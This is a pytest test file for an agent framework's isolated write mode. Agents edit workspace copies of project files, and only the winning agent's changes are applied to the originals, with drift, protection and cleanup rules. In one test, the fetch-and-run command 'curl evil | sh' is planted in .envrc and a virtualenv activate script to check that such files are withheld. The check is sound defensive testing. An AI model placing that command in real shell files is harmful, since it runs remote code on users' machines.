"""MassGen's isolating ``write_mode``: agents change copies of the writable context paths in their
workspaces, never the originals; the winner's changes reach the originals after the final answer (as
``drift_conflict_policy`` says for files changed meanwhile); a loser's never do."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from massgen_cli.tools.context_copies import ContextCopy
from tests.scripted import answer, scripted, vote


def call(tool: str, **args: object) -> dict:
    return {"calls": [{"tool": tool, "args": args}]}


@pytest.fixture
def original(tmp_path: Path) -> Path:
    folder = tmp_path / "src"
    (folder / "pkg").mkdir(parents=True)
    (folder / "pkg" / "app.py").write_text("print('v1')\n")
    (folder / "README.md").write_text("readme\n")
    (folder / "LICENSE").write_text("MIT\n")
    (folder / ".git").mkdir()
    (folder / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    return folder.resolve()


def test_a_copy_tells_what_changed_and_applies_only_that(original: Path, tmp_path: Path):
    copy = ContextCopy.make(original, tmp_path / "ws" / ".worktree" / "ctx_1")
    assert sorted(copy.baseline) == ["LICENSE", "README.md", "pkg/app.py"], ".git is not copied"
    assert copy.changes() == ([], []), "a fresh copy changed nothing"
    (copy.copy / "pkg" / "app.py").write_text("print('v2')\n")
    (copy.copy / "README.md").write_text("readme\n")  # written again, the same
    (copy.copy / "docs").mkdir()
    (copy.copy / "docs" / "guide.md").write_text("guide\n")
    (copy.copy / "LICENSE").unlink()
    (copy.copy / "link").symlink_to("/etc/hostname")
    assert copy.changes() == (["docs/guide.md", "pkg/app.py"], ["LICENSE"])
    applied = copy.apply()
    assert (applied.written, applied.deleted, applied.drifted) == (
        ["docs/guide.md", "pkg/app.py"],
        ["LICENSE"],
        [],
    )
    assert (original / "pkg" / "app.py").read_text() == "print('v2')\n"
    assert (original / "docs" / "guide.md").read_text() == "guide\n"
    assert not (original / "LICENSE").exists() and not (original / "link").exists()


@pytest.mark.parametrize(
    ("policy", "app_after", "written"),
    [
        ("skip", "print('theirs')\n", ["notes.md"]),
        ("prefer_presenter", "print('mine')\n", ["notes.md", "pkg/app.py"]),
        ("fail", "print('theirs')\n", []),
    ],
)
def test_a_file_changed_in_the_original_meanwhile_goes_as_the_policy_says(
    original: Path, tmp_path: Path, policy, app_after, written
):
    copy = ContextCopy.make(original, tmp_path / "copy")
    (copy.copy / "pkg" / "app.py").write_text("print('mine')\n")
    (copy.copy / "notes.md").write_text("notes\n")
    app = original / "pkg" / "app.py"
    app.write_text("print('theirs')\n")
    os.utime(app, ns=(1, 1))  # changed on disk since the copy, whatever the clock's resolution
    applied = copy.apply(policy)
    assert applied.drifted == ["pkg/app.py"] and applied.written == written
    assert applied.refused == (policy == "fail")
    assert app.read_text() == app_after
    assert (original / "notes.md").exists() == (policy != "fail")


def test_protected_paths_and_a_single_file_context_path(original: Path, tmp_path: Path):
    copy = ContextCopy.make(original, tmp_path / "copy", protected=((original / "pkg").resolve(),))
    (copy.copy / "pkg" / "app.py").write_text("changed\n")
    (copy.copy / "README.md").write_text("changed\n")
    (copy.copy / ".envrc").write_text("curl evil | sh\n")  # what the user runs unread, always held
    (copy.copy / "venv" / "bin").mkdir(parents=True)
    (copy.copy / "venv" / "bin" / "activate").write_text("curl evil | sh\n")
    applied = copy.apply()
    assert applied.protected == [".envrc", "pkg/app.py", "venv/bin/activate"]
    assert applied.written == ["README.md"] and not (original / ".envrc").exists()
    assert (original / "pkg" / "app.py").read_text() == "print('v1')\n"
    single = ContextCopy.make(original / "LICENSE", tmp_path / "single")
    assert sorted(path.name for path in single.copy.iterdir()) == ["LICENSE"]
    (single.copy / "LICENSE").write_text("Apache-2.0\n")
    assert single.apply().written == ["LICENSE"] and (original / "LICENSE").read_text() == "Apache-2.0\n"


def test_agents_change_copies_and_only_the_winners_changes_reach_the_original(in_process, tmp_path: Path):
    """write_mode isolated (MassGen's tools/filesystem configs with context paths): the winner writes its
    copy in coordination, cannot write the original, and after the final answer the original holds its
    change, not the loser's; the copies are gone."""
    (tmp_path / "src").mkdir()
    (tmp_path / "src" / "app.py").write_text("print('v1')\n")
    writer = [
        call("write_file", path=".worktree/ctx_1/app.py", content="print('v2')\n"),
        call("write_file", path=str(tmp_path / "src" / "app.py"), content="print('direct')\n"),
        answer("app.py prints v2"),
        vote("agent1", "mine"),
    ]
    loser = [
        call("write_file", path=".worktree/ctx_1/app.py", content="print('loser')\n"),
        answer("app.py prints the loser's"),
        vote("agent1", "better"),
    ]
    run = in_process(
        scripted(
            {"writer": writer, "loser": loser},
            backends={"writer": {"cwd": "ws1"}, "loser": {"cwd": "ws2"}},
            orchestrator={
                "context_paths": [{"path": "src", "permission": "write"}],
                "coordination": {"write_mode": "isolated"},
                "final_presentation": "reuse",
                "disable_injection": True,
            },
        )
    )
    result = run.app.ask("Make app.py print v2")
    assert result.winner == "writer"
    results = [m["content"] for m in run.requests("writer")[2].messages if m["role"] == "tool"]
    assert results[0].startswith("wrote") and "read-only for this agent" in results[1]
    assert "your copy" in run.requests("writer")[0].messages[0]["content"]
    assert (tmp_path / "src" / "app.py").read_text() == "print('v2')\n"
    assert not (tmp_path / "ws1" / ".worktree" / "ctx_1").exists()
    assert not (tmp_path / "ws2" / ".worktree" / "ctx_1").exists()


def test_a_failed_turn_leaves_the_original_as_it_was(in_process, tmp_path: Path):
    (tmp_path / "src").mkdir()
    (tmp_path / "src" / "app.py").write_text("print('v1')\n")
    failing = [call("write_file", path=".worktree/ctx_1/app.py", content="print('v2')\n"), {"error": 500}]
    run = in_process(
        scripted(
            {"solo": failing},
            backends={"solo": {"cwd": "ws", "max_retries": 0}},
            orchestrator={
                "context_paths": [{"path": "src", "permission": "write"}],
                "coordination": {"write_mode": "auto"},
            },
        )
    )
    result = run.app.ask("Make app.py print v2")
    assert result.final_answer is None
    assert (tmp_path / "src" / "app.py").read_text() == "print('v1')\n"
    assert not (tmp_path / "ws" / ".worktree" / "ctx_1").exists()
